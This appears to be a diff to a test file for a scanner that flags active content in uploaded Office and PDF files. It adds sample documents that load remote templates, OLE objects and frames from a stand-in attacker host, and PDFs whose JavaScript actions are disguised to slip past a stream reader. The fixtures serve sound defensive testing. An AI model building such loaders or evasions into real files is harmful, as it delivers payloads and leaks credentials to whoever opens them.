@@ -36,6 +36,16 @@ def office(*names: str, types: str = "") -> bytes:
     return data.getvalue()
 
 
+def loading(kind: str, target: str) -> bytes:
+    """An office file that loads something when it is opened."""
+    data = io.BytesIO()
+    with zipfile.ZipFile(data, "w") as archive:
+        names = f'Type="http://x/relationships/{kind}" Target="{target}" TargetMode="External"'
+        archive.writestr("[Content_Types].xml", "<Types/>")
+        archive.writestr("word/_rels/settings.xml.rels", f"<Relationships><Relationship {names}/></Relationships>")
+    return data.getvalue()
+
+
 MACROS = [
     ("a.docx", office("word/vbaProject.bin")),
     ("a.xlsx", office("xl/vbaProject.bin")),
@@ -43,6 +53,9 @@ MACROS = [
     ("a.docx", office("word/document.xml", types="application/vnd.ms-word.document.macroEnabled.main+xml")),
     ("a.odt", office("Basic/Standard/Module1.xml")),
     ("a.ods", office("Scripts/python/x.py")),
+    ("a.docx", loading("attachedTemplate", "https://evil.example/a.dotm")),
+    ("a.docx", loading("oleObject", "file://evil.example/share/a.xls")),
+    ("a.xlsx", loading("frame", "\\\\evil.example\\a")),
 ]
 
 
@@ -65,6 +78,11 @@ def packed(words: bytes) -> bytes:
         b"<< /AA << /O 3 0 R >> >>",
         b"<< /S /Launch >>",
         packed(b"<< /S /JavaScript /JS (x) >>"),
+        # Hidden from a reader of streams: behind words of a comment, behind what fills the bound, behind a wide head.
+        b"% stream\n<< /S /JavaScript /JS (x) >>\n% endstream",
+        b"%>>stream\n<< /S /J#61vaScript >>\n% endstream",
+        packed(bytes(17 * 1024 * 1024)) + packed(b"<< /S /JS >>"),
+        b"1 0 obj << /Type /ObjStm" + b" " * 400 + b">> stream\n" + zlib.compress(b"<< /S /JS (x) >>") + b"\nendstream",
     ],
 )
 def test_pdfs_that_act(tmp_path: Path, body: bytes) -> None:
@@ -75,6 +93,8 @@ def test_files_that_do_nothing(tmp_path: Path) -> None:
     files = {
         "ky/practices/a.pdf": b"%PDF-1.7\n<< /OpenAction [3 0 R /Fit] >>" + packed(b"<< /Type /Page >>"),
         "ky/practices/b.docx": office("word/document.xml"),
+        "ky/practices/c.docx": loading("hyperlink", "https://a.kg/"),
+        "ky/practices/d.docx": loading("attachedTemplate", "file:///C:\\Letter.dotx"),
     }
     assert told(tmp_path, "Суу.", files) == []
     assert told(tmp_path, "Суу.", {"ky/practices/b.docx": b"PK\x03\x04 broken"}) == ["asset-content"]
